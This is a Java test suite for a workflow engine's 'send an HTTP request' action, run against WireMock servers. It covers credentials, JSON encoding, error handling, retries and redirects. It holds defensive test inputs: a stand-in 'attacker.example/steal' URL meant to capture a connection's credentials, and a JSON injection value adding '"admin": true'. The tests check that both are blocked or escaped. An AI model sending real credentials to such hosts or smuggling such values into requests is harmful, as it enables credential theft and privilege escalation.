package io.stroomlijn.connector.http;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.ok;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import io.stroomlijn.connector.ActionFlows;
import io.stroomlijn.support.StroomlijnTest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.history.HistoricVariableInstance;
import org.camunda.bpm.engine.runtime.Job;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;

/** "Send an HTTP request" against a real HTTP server (WireMock). */
@StroomlijnTest
class HttpRequestActionTest {

  @RegisterExtension
  static WireMockExtension server =
      WireMockExtension.newInstance().options(wireMockConfig().port(18089)).build();

  /** Another origin: the same host on another port. */
  @RegisterExtension
  static WireMockExtension elsewhere =
      WireMockExtension.newInstance().options(wireMockConfig().dynamicPort()).build();

  @Autowired RepositoryService repository;
  @Autowired RuntimeService runtime;
  @Autowired HistoryService history;
  @Autowired ManagementService management;
  final List<String> deployments = new ArrayList<>();

  @AfterEach
  void undeploy() {
    deployments.forEach(id -> repository.deleteDeployment(id, true));
  }

  @Test
  void getsJsonThroughAConnectionWithItsCredentialsAndKeepsTheAnswer() {
    server.stubFor(
        get("/crm/accounts/C0042")
            .willReturn(okJson("{\"name\": \"Fabrikam\", \"creditLimit\": 25000}")));
    deploy(
        ActionFlows.of("HttpGetAccount", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "accounts/${customerNo}")
            .input("resultVariable", "account"));

    String run =
        runtime.startProcessInstanceByKey("HttpGetAccount", Map.of("customerNo", "C0042")).getId();

    server.verify(
        getRequestedFor(urlEqualTo("/crm/accounts/C0042"))
            .withHeader("Authorization", equalTo("Bearer secret-crm-token")));
    Map<?, ?> account = (Map<?, ?>) variable(run, "account");
    assertThat(account.get("status")).isEqualTo(200);
    assertThat(((Map<?, ?>) account.get("body")).get("creditLimit")).isEqualTo(25000);
    assertThat(history.createHistoricVariableInstanceQuery().processInstanceId(run).list())
        .extracting(v -> String.valueOf(v.getValue()))
        .noneMatch(value -> value.contains("secret-crm-token"));
  }

  @Test
  void postsAMapAsJsonWithTheGivenHeaders() {
    server.stubFor(post("/orders").willReturn(aResponse().withStatus(201).withBody("created")));
    deploy(
        ActionFlows.of("HttpPostOrder", "httpRequestDelegate")
            .input("method", "POST")
            .input("url", "http://localhost:18089/orders")
            .input("headers", "{\"X-Source\": \"stroomlijn\"}")
            .input("body", "{\"customer\": \"${customerNo}\", \"lines\": 3}")
            .input("resultVariable", "answer"));

    String run =
        runtime.startProcessInstanceByKey("HttpPostOrder", Map.of("customerNo", "C0042")).getId();

    server.verify(
        postRequestedFor(urlEqualTo("/orders"))
            .withHeader("X-Source", equalTo("stroomlijn"))
            .withHeader("Content-Type", equalTo("application/json"))
            .withRequestBody(equalToJson("{\"customer\": \"C0042\", \"lines\": 3}")));
    assertThat(((Map<?, ?>) variable(run, "answer")).get("body")).isEqualTo("created");
  }

  @Test
  void valuesInAJsonBodyAreEncodedAsJson() {
    server.stubFor(post("/quotes").willReturn(aResponse().withStatus(201)));
    deploy(
        ActionFlows.of("HttpPostQuote", "httpRequestDelegate")
            .input("method", "POST")
            .input("url", "http://localhost:18089/quotes")
            .input("body", "{\"customer\": \"${customer}\", \"lines\": ${lines}}"));

    runtime.startProcessInstanceByKey(
        "HttpPostQuote", Map.of("customer", "Quote \"Test\" BV", "lines", "3, \"admin\": true"));

    server.verify(
        postRequestedFor(urlEqualTo("/quotes"))
            .withRequestBody(
                equalToJson(
                    "{\"customer\": \"Quote \\\"Test\\\" BV\", \"lines\": \"3, \\\"admin\\\": true\"}")));
  }

  @Test
  void a4xxAnswerIsTheBpmnErrorHttp4xxWithTheAnswerKept() {
    server.stubFor(
        get("/crm/accounts/NOPE")
            .willReturn(
                aResponse()
                    .withStatus(404)
                    .withBody("{\"error\": \"no such account\"}")
                    .withHeader("Content-Type", "application/json")));
    deploy(
        ActionFlows.of("HttpNotFound", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "/accounts/NOPE")
            .input("resultVariable", "account")
            .catching("HTTP_4XX"));

    String run = runtime.startProcessInstanceByKey("HttpNotFound").getId();

    assertThat(
            history
                .createHistoricActivityInstanceQuery()
                .processInstanceId(run)
                .activityId(ActionFlows.CAUGHT)
                .count())
        .isEqualTo(1);
    Map<?, ?> account = (Map<?, ?>) variable(run, "account");
    assertThat(account.get("status")).isEqualTo(404);
    assertThat(((Map<?, ?>) account.get("body")).get("error")).isEqualTo("no such account");
  }

  @Test
  void a5xxAnswerIsATechnicalFailureThatNamesTheRequestAndConnection() {
    server.stubFor(
        get(urlPathEqualTo("/crm/health"))
            .willReturn(aResponse().withStatus(503).withBody("maintenance")));
    deploy(
        ActionFlows.of("HttpDown", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "health?apiKey=abc")
            .catching("HTTP_4XX"));

    assertThatThrownBy(() -> runtime.startProcessInstanceByKey("HttpDown"))
        .hasMessageContaining(
            "GET http://localhost:18089/crm/health (connection 'crm') answered 503: maintenance")
        .message()
        .doesNotContain("apiKey=abc");
  }

  /**
   * A request timeout, "408 Request Timeout" and "429 Too Many Requests": the service may answer
   * later.
   */
  @ParameterizedTest
  @CsvSource({
    "408, PT30S, answered 408",
    "429, PT30S, answered 429",
    "200, PT0.5S, did not answer within"
  })
  void aTimeoutA408AndA429AreTechnicalFailuresThatRetry(
      int status, String timeout, String failure) {
    String key = "HttpLater" + status;
    server.stubFor(
        get("/crm/later/" + status)
            .willReturn(
                aResponse()
                    .withStatus(status)
                    .withHeader("Retry-After", "1")
                    .withFixedDelay(status == 200 ? 3000 : 0)));
    deploy(
        ActionFlows.of(key, "httpRequestDelegate")
            .async()
            .input("connection", "crm")
            .input("url", "later/" + status)
            .input("timeout", timeout)
            .input("resultVariable", "answer")
            .catching("HTTP_4XX"));

    String run = runtime.startProcessInstanceByKey(key).getId();

    // a technical failure, not the BPMN error HTTP_4XX: the step stays, with two more tries
    Job failed =
        await()
            .atMost(Duration.ofSeconds(15))
            .until(
                () -> management.createJobQuery().processInstanceId(run).singleResult(),
                job -> job != null && job.getRetries() == 2);
    assertThat(failed.getExceptionMessage()).contains("GET http://localhost:18089/crm/later/");
    assertThat(failed.getExceptionMessage()).contains(failure);
    server.stubFor(get("/crm/later/" + status).willReturn(okJson("{\"ready\": true}")));
    management.executeJob(failed.getId());
    assertThat(
            history
                .createHistoricActivityInstanceQuery()
                .processInstanceId(run)
                .activityId(ActionFlows.DONE)
                .count())
        .as("the retry got the answer")
        .isEqualTo(1);
  }

  @Test
  void aConnectionsCredentialsGoNowhereButItsBaseUrl() {
    deploy(
        ActionFlows.of("HttpElsewhere", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "https://attacker.example/steal"));

    assertThatThrownBy(() -> runtime.startProcessInstanceByKey("HttpElsewhere"))
        .hasMessageContaining(
            "outside connection 'crm', whose base URL is http://localhost:18089/crm");
  }

  @Test
  void followsARedirectWithinTheConnectionsOriginWithItsCredentials() {
    server.stubFor(
        get("/crm/accounts/OLD")
            .willReturn(aResponse().withStatus(301).withHeader("Location", "/crm/accounts/NEW")));
    server.stubFor(get("/crm/accounts/NEW").willReturn(okJson("{\"name\": \"Fabrikam\"}")));
    deploy(
        ActionFlows.of("HttpMovedWithin", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "accounts/OLD")
            .input("resultVariable", "account"));

    String run = runtime.startProcessInstanceByKey("HttpMovedWithin").getId();

    server.verify(
        getRequestedFor(urlEqualTo("/crm/accounts/NEW"))
            .withHeader("Authorization", equalTo("Bearer secret-crm-token")));
    assertThat(((Map<?, ?>) ((Map<?, ?>) variable(run, "account")).get("body")).get("name"))
        .isEqualTo("Fabrikam");
  }

  @Test
  void aRedirectToAnotherOriginIsNotFollowedAndTheStepNamesThatOrigin() {
    elsewhere.stubFor(any(anyUrl()).willReturn(ok()));
    server.stubFor(
        get("/crm/accounts/MOVED")
            .willReturn(
                aResponse()
                    .withStatus(302)
                    .withHeader(
                        "Location", "http://localhost:" + elsewhere.getPort() + "/x?sig=s3cr3t")));
    deploy(
        ActionFlows.of("HttpMovedAway", "httpRequestDelegate")
            .input("connection", "crm")
            .input("url", "accounts/MOVED"));

    assertThatThrownBy(() -> runtime.startProcessInstanceByKey("HttpMovedAway"))
        .hasMessageContaining(
            "GET http://localhost:18089/crm/accounts/MOVED (connection 'crm') was redirected to"
                + " http://localhost:"
                + elsewhere.getPort()
                + ", another origin")
        .message()
        .doesNotContain("s3cr3t")
        .doesNotContain("secret-crm-token");
    elsewhere.verify(0, anyRequestedFor(anyUrl()));
  }

  private void deploy(ActionFlows flow) {
    deployments.add(flow.deploy(repository));
  }

  private Object variable(String run, String name) {
    HistoricVariableInstance variable =
        history
            .createHistoricVariableInstanceQuery()
            .processInstanceId(run)
            .variableName(name)
            .singleResult();
    return variable == null ? null : variable.getValue();
  }
}
